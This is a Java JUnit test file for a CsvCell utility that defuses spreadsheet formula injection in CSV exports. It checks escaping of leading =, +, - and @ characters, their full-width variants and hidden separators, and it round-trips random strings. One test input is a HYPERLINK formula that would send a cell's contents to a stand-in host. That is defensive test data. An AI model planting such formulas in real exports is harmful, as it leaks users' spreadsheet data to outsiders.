package app.counterpoint.shared;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvCellTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "+49 30 1234",
                "-2+3",
                "@SUM(A1)",
                "\t=1",
                "\r=1",
                "\n=1",
                "  =1",
                "=HYPERLINK(\"http://e.example?\"&A1)",
                "＝1",
                "＋1",
                "－1",
                "＠A1",
                "harmless;=1",
                "harmless\t=1",
                "harmless\n-1",
                "harmless|@A1",
                "'=1"
            })
    void whatWouldBeComputedIsDefusedAndComesBackAsItWas(String text) {
        var cell = CsvCell.of(text);

        assertThat(cell).isNotEqualTo(text);
        assertThat(cell.split("[;|\t\r\n]"))
                .allSatisfy(
                        part -> assertThat(part.strip()).doesNotStartWith("=").doesNotMatch("[-+@＝＋－＠].*"));
        assertThat(CsvCell.plain(cell)).isEqualTo(text);
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "Keep the queue?", "a = b", "1-2", "mail me @ home", "O'Brien's", "x; y", "2026-03-16"})
    void anythingElseStaysAsItIs(String text) {
        assertThat(CsvCell.of(text)).isEqualTo(text);
        assertThat(CsvCell.plain(text)).isEqualTo(text);
    }

    @Test
    void whateverIsWrittenIsReadBack() {
        var random = new Random(7);
        var letters = "ab =+-@';|\t\r\n\"＝,";
        for (int round = 0; round < 20_000; round++) {
            var text = new StringBuilder();
            for (int i = random.nextInt(12); i > 0; i--) {
                text.append(letters.charAt(random.nextInt(letters.length())));
            }
            assertThat(CsvCell.plain(CsvCell.of(text.toString()))).isEqualTo(text.toString());
        }
    }
}
